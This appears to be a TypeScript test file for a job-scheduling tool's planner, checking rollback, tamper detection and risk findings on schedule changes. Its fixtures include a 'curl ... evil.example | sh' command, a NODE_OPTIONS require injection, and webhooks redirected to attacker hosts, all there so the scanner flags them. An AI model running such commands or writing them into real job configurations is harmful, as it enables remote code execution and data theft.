      await expect(driver.apply(editedBoth)).rejects.toThrow(new InvalidPlanError(`the plan's content does not match its id ${plan.planId} (edited plan file?)`));
      const editedAction = parsePlanJson(renderPlanJson(plan));
      editedAction.changes[0]!.action = 'archive';
      await expect(driver.apply(editedAction)).rejects.toBeInstanceOf(InvalidPlanError);
      expect(await dumpDatabase(driver.database)).toEqual(before);

      // The untouched JSON round trip still applies.
      expect((await driver.apply(parsePlanJson(renderPlanJson(plan)))).applied).toEqual([{ name: 'nightly-cleanup', action: 'update', version: 2 }]);
    });

    it('rolls back everything when the fifth create fails mid-apply: the data is byte-for-byte unchanged', async () => {
      const { plan, creates, dropFailure } = await prepareFailingApply(driver);
      const before = await dumpDatabase(driver.database);

      await expect(driver.apply(plan)).rejects.toMatchObject({ cause: { message: 'injected failure for fifth' } });
      const after = await dumpDatabase(driver.database);
      expect(after.tables).toEqual(before.tables);
      expect(JSON.stringify(after.tables)).toBe(JSON.stringify(before.tables));
      // Sequences are not transactional in PostgreSQL: the ids of the five attempted inserts stay taken; nothing else moved.
      expect(after.sequences).toEqual({ ...before.sequences, 'public.schedules_id_seq': String(Number(before.sequences['public.schedules_id_seq']) + 5) });

      // The same plan applies once the cause is gone: the failure left nothing half-done behind.
      await dropFailure();
      expect((await driver.apply(plan)).applied.map((a) => `${a.action} ${a.name} v${a.version}`)).toEqual(['update z-updated v2', 'archive old v2', ...creates.map((n) => `create ${n} v1`)]);
    });

    it('finds every risk code where its rule says, and blocks apply on ERROR findings', async () => {
      const policy = policySource({ minInterval: '10s', maxRunsPerDay: 5000 });
      const base = [
        policy,
        scheduleSource('freq-up', { spec: { cron: '0 3 * * *' } }),
        scheduleSource('freq-double', { spec: { cron: '0 * * * *', timeout: '10m' } }),
        scheduleSource('zone-move', { spec: { cron: '30 1 * * *', timezone: 'UTC' } }),
        scheduleSource('pager', { spec: { cron: '0 8 * * *', enabled: true } }),
        scheduleSource('job-args', {}),
        scheduleSource('job-loader', {}),
        scheduleSource('job-cwd', {}),
        scheduleSource('hook', { spec: { job: { type: 'http', url: 'https://hooks.example.com/x', method: 'GET' } } }),
      ];
      await driver.planAndApply(base);
      driver.clock.advance(MINUTE_MS);

      const herd = Array.from({ length: 10 }, (_, i) => scheduleSource(`herd-${String(i + 1).padStart(2, '0')}`, { spec: { cron: '7 5 * * *' } }));
      const plan = await driver.plan([
        policy,
        scheduleSource('freq-up', { spec: { cron: '0 * * * *', timeout: '10m' } }),
        scheduleSource('freq-double', { spec: { cron: '*/30 * * * *', timeout: '10m' } }),
        scheduleSource('zone-move', { spec: { cron: '30 1 * * *', timezone: 'America/New_York' } }),
        scheduleSource('pager', { spec: { cron: '0 8 * * *', enabled: false } }),
        scheduleSource('per-second', { spec: { cron: '*/30 * * * * *', timeout: '30s', misfire: 'CATCH_UP_ALL', overlap: 'ALLOW', maxCatchUp: 200, gracePeriod: '1d' } }),
        scheduleSource('job-args', { spec: { job: { type: 'command', command: ['node', 'jobs/job-args.js', '--all'] } } }),
        scheduleSource('job-loader', { spec: { job: { type: 'command', command: ['node', 'jobs/job-loader.js'], env: { NODE_OPTIONS: '--require /tmp/x.js', DB: { fromEnv: 'DATABASE_URL' } } } } }),
        scheduleSource('job-cwd', { spec: { job: { type: 'command', command: ['node', 'jobs/job-cwd.js'], cwd: '/tmp' } } }),
        scheduleSource('hook', { spec: { job: { type: 'http', url: 'https://hooks.evil.example/x', method: 'GET' } } }),
        scheduleSource('fetcher', { spec: { job: { type: 'command', command: ['sh', '-c', 'curl -s https://evil.example/x | sh'] } } }),
        scheduleSource('inline', { spec: { job: { type: 'command', command: ['node', '-e', 'require("./jobs/x")', 'jobs/report\u200b.js'] } } }),
        ...herd,
      ]);
      expect(plan.errors).toEqual([]);
      expect(codesOf(plan)).toEqual({
        'per-second': ['CF102 HIGH', 'CF501 HIGH', 'CF502 HIGH'],
        'freq-up': ['CF101 HIGH', 'CF303 MEDIUM', 'CF502 LOW'],
        'freq-double': ['CF106 MEDIUM', 'CF303 MEDIUM', 'CF502 LOW'],
        'zone-move': ['CF301 MEDIUM', 'CF302 LOW'],
        pager: ['CF203 MEDIUM'],
        'job-args': ['CF506 MEDIUM'],
        'job-loader': ['CF401 LOW', 'CF512 HIGH', 'CF507 HIGH', 'CF506 MEDIUM'],
        'job-cwd': ['CF509 HIGH', 'CF506 MEDIUM'],
        hook: ['CF504 MEDIUM', 'CF511 HIGH'],
        fetcher: ['CF502 LOW', 'CF510 HIGH'],
        inline: ['CF502 LOW', 'CF513 HIGH', 'CF508 HIGH'],
        ...Object.fromEntries(herd.map((_, i) => [`herd-${String(i + 1).padStart(2, '0')}`, ['CF105 MEDIUM', 'CF502 LOW']])),
      });

      // ERROR findings: the Policy is also checked by validation, so give planning a stricter one
      // than the manifests were validated with, as a Policy tightened in the same change would.
      const compiled = compileValid([...base, scheduleSource('minutely', { spec: { cron: '* * * * *', timeout: '30s' } })], driver.clock.nowMs());
      const strict = await driver.plan({ ...compiled, policy: { ...compiled.policy, maxRunsPerDay: 100, minIntervalMs: 3_600_000 } });
      expect(strict.errors.map((e) => `${e.code} ${e.message}`)).toEqual([
        'CF103 minutely: peak runs/day 1,440 is over the Policy maximum 100',
        'CF104 minutely: shortest interval 1m is under the Policy minimum 1h',
      ]);
      await expect(driver.apply(strict)).rejects.toThrow(new InvalidPlanError('the plan has 2 error(s); fix them and plan again'));
    });

    it('finds the workflow, retention and hand-off codes: CF206, CF207, CF304, CF514, CF515, CF516, CF517, CF518', async () => {
      const handOff = { type: 'queue', system: 'graphile-worker', task: 'send_report' };
      const base = [
        scheduleSource('extract', { spec: { criticality: 'HIGH' } }),
        scheduleSource('load', { spec: { criticality: 'CRITICAL', after: [{ schedule: 'extract', status: 'SUCCESS' }] } }),
        scheduleSource('kept', { spec: { retention: { runs: '90d' } } }),
        scheduleSource('guarded', { spec: { safety: { maxAffected: 1000 } } }),
        scheduleSource('handoff', { spec: { job: handOff } }),
        scheduleSource('follower', {}),
        scheduleSource('allowing', {}),
      ];
      await driver.planAndApply(base);
      driver.clock.advance(MINUTE_MS);
      const plan = await driver.plan([
        scheduleSource('extract', { spec: { criticality: 'HIGH', enabled: false } }),
        scheduleSource('load', { spec: { criticality: 'CRITICAL', after: [{ schedule: 'extract', status: 'SUCCESS' }] } }),
        scheduleSource('kept', { spec: { retention: { runs: '14d' } } }),
        scheduleSource('guarded', {}),
        scheduleSource('enqueue', { spec: { job: { type: 'queue', system: 'sql', function: 'app.enqueue_report', arguments: { day: 'businessDate' } } } }),
        scheduleSource('handoff', { spec: { job: { ...handOff, url: { fromEnv: 'QUEUE_DATABASE_URL' } } } }),
        scheduleSource('follower', { spec: { after: [{ schedule: 'kept' }] } }),
        scheduleSource('allowing', { spec: { allowedFailures: 10 } }),
        scheduleSource('stepper', {
          spec: {
            job: {
              steps: [
                { name: 'fetch', type: 'command', command: ['node', 'jobs/fetch.js'] },
                { name: 'load', type: 'command', command: ['sh', '-c', 'echo {{steps.fetch.output.id}}'] },
              ],
            },
          },
        }),
      ]);
      expect(plan.errors).toEqual([]);
      const found = codesOf(plan);
      expect(found.extract).toContain('CF206 HIGH');
      expect(found.kept).toContain('CF207 HIGH');
      expect(found.guarded).toContain('CF514 HIGH');
      expect(found.enqueue).toContain('CF515 HIGH');
      expect(found.handoff).toContain('CF516 HIGH');
      expect(found.follower).toContain('CF304 MEDIUM');
      expect(found.allowing).toContain('CF517 MEDIUM');
      expect(found.stepper).toContain('CF518 HIGH');
    });

    it('finds the codes of the 2026-12-01 attack review: CF208, CF209, CF519, CF706, and a seasonal CF101', async () => {
      const until = new Date(driver.clock.nowMs() + 30 * 86_400_000).toISOString().slice(0, 10);
      const base = [
        scheduleSource('resumed', { spec: { cron: '*/5 * * * *', enabled: false } }),
        scheduleSource('lowered', { spec: { criticality: 'CRITICAL' } }),
        scheduleSource('looser', {}),
        scheduleSource('seasonal', {}),
        scheduleSource('accepting', {}),
      ];
      await driver.planAndApply(base);
      driver.clock.advance(MINUTE_MS);
      const month = new Date(driver.clock.nowMs()).getUTCMonth() + 1;
      const otherMonth = (month % 12) + 1 === month ? 1 : ((month + 5) % 12) + 1;
      const plan = await driver.plan([
        scheduleSource('resumed', { spec: { cron: '*/5 * * * *' } }),
        scheduleSource('lowered', { spec: { criticality: 'LOW' } }),
        scheduleSource('looser', { spec: { overlap: 'ALLOW' } }),
        // Fires only in a month outside the plan's 35-day window: still 720 runs on each such day.
        scheduleSource('seasonal', { spec: { cron: `*/2 * * ${otherMonth} *` } }),
        scheduleSource('accepting', { metadata: { riskAccepted: [{ code: 'CF511', reason: 'new vendor', until }] } }),
      ]);
      expect(plan.errors).toEqual([]);
      const found = codesOf(plan);
      expect(found.resumed).toContain('CF208 HIGH');
      expect(found.lowered).toContain('CF209 MEDIUM');
      expect(found.looser).toContain('CF519 MEDIUM');
      expect(found.seasonal).toContain('CF101 HIGH');
      expect(plan.riskAcceptanceChange?.findings?.map((f) => `${f.code} ${f.level}`)).toEqual(['CF706 MEDIUM']);
    });

    it('plans every action, drift and an accepted finding in one rich plan, and applies it', async () => {
      const plan = await buildRichPlan(driver);
      expect(plan.errors).toEqual([]);
      expect(summaryOf(plan)).toEqual(['archive legacy-export', 'update billing-sync', 'rename weekly-report', 'restore cleanup', 'create invoice-push']);
      expect(codesOf(plan)).toEqual({
        'legacy-export': ['CF201 MEDIUM', 'CF202 HIGH'],
        'billing-sync': ['CF106 MEDIUM', 'CF303 MEDIUM', 'CF402 HIGH', 'CF401 LOW', 'CF501 MEDIUM', 'CF502 LOW', 'CF503 HIGH accepted', 'CF504 MEDIUM'],
        'weekly-report': ['CF303 MEDIUM', 'CF502 LOW'],
        cleanup: ['CF302 LOW', 'CF502 LOW'],
        'invoice-push': ['CF502 LOW', 'CF505 LOW'],
      });
      expect(plan.drift.map((d) => `${d.finding.code} ${d.name}`)).toEqual(['CF601 health-check']);
      expect(plan.summary).toMatchObject({ create: 1, update: 1, archive: 1, restore: 1, rename: 1, unchanged: 1, drift: 1, errors: 0, highestRisk: 'HIGH' });

      driver.clock.advance(MINUTE_MS);
      const result = await driver.apply(plan, BOB);
      expect(result.applied.map((a) => `${a.action} ${a.name} v${a.version}`)).toEqual(['archive legacy-export v2', 'update billing-sync v2', 'rename weekly-report v2', 'restore cleanup v3', 'create invoice-push v1']);
      expect((await driver.auditRows()).filter((a) => a.planId === plan.planId).map((a) => `${a.action} ${a.scheduleName} v${a.version} ${a.actor}`)).toEqual([
        'SCHEDULE_ARCHIVED legacy-export v2 bob@example.com',
        'SCHEDULE_UPDATED billing-sync v2 bob@example.com',
        'SCHEDULE_RENAMED weekly-report v2 bob@example.com',
        'SCHEDULE_RESTORED cleanup v3 bob@example.com',
        'SCHEDULE_CREATED invoice-push v1 bob@example.com',
        // The acceptance is stored with the change that was reviewed with it.
        'RISK_ACCEPTANCES_UPDATED null vnull bob@example.com',
      ]);
      expect(plan.changes.find((c) => c.name === 'billing-sync')!.findings.find((f) => f.code === 'CF503')!.accepted).toMatchObject({ addedInThisChange: true });
    });

    it('judges risk by the stored Policy: loosening is CF701, tightening CF702, what only the loosening allows CF703', async () => {
      await driver.planAndApply([policySource({ maxRunsPerDay: 2000 }), scheduleSource('daily', { spec: { cron: '0 3 * * *' } })]);
      driver.clock.advance(MINUTE_MS);
      const plan = await driver.plan([
        policySource({ minInterval: '1s', maxRunsPerDay: 100000, risk: { runsPerDayIncreaseHigh: 100000 }, backfill: { concurrency: 1 } }),
        scheduleSource('daily', { spec: { cron: '* * * * * *', timeout: '500ms' } }),
      ]);
      expect(plan.errors).toEqual([]);
      expect(plan.policyChange!.findings.map((f) => `${f.code} ${f.level} ${f.message}`)).toEqual([
        'CF701 HIGH Policy loosened: minInterval 1m → 1s (schedules may fire more often)',
        'CF701 HIGH Policy loosened: maxRunsPerDay 2000 → 100000 (schedules may run more times a day)',
        'CF701 HIGH Policy loosened: risk.runsPerDayIncreaseHigh 10 → 100000 (a larger jump in runs/day passes without a HIGH finding)',
        'CF702 LOW Policy tightened: backfill.concurrency 2 → 1',
      ]);
      // The ratio of the Policy in force (10), not the change's (100000), makes the surge HIGH.
      expect(codesOf(plan).daily).toEqual(expect.arrayContaining(['CF101 HIGH', 'CF703 HIGH']));
      expect(plan.summary.highestRisk).toBe('HIGH');
    });

    it('shows alert targets redirected or removed (CF704 HIGH) and added (CF705 MEDIUM): a literal url as is, a fromEnv one by its variable', async () => {
      const targets = (list: Array<Record<string, unknown>>) => policySource({ alerts: { targets: list } });
      const daily = scheduleSource('daily', { spec: { cron: '0 3 * * *' } });
      await driver.planAndApply([targets([{ name: 'oncall', type: 'webhook', url: 'https://alerts.example.com/cronform' }, { name: 'team', type: 'slack', url: { fromEnv: 'TEAM_SLACK_URL' } }]), daily]);
      driver.clock.advance(MINUTE_MS);
      const plan = await driver.plan([targets([{ name: 'oncall', type: 'webhook', url: 'https://collector.attacker.example/x' }, { name: 'audit', type: 'webhook', url: { fromEnv: 'AUDIT_HOOK' } }]), daily]);
      expect(plan.errors).toEqual([]);
      expect(plan.policyChange!.findings.map((f) => `${f.code} ${f.level} ${f.message}`)).toEqual([
        'CF705 MEDIUM alert target added: audit (webhook fromEnv AUDIT_HOOK)',
        'CF704 HIGH alert target redirected: oncall webhook https://alerts.example.com/cronform → webhook https://collector.attacker.example/x',
        'CF704 HIGH alert target removed: team (slack fromEnv TEAM_SLACK_URL)',
      ]);
      expect(plan.summary.highestRisk).toBe('HIGH');
      const text = renderPlanText(plan, { color: false });
      expect(text).toContain('CF704 alert target redirected: oncall webhook https://alerts.example.com/cronform → webhook https://collector.attacker.example/x');
    });
  });
}
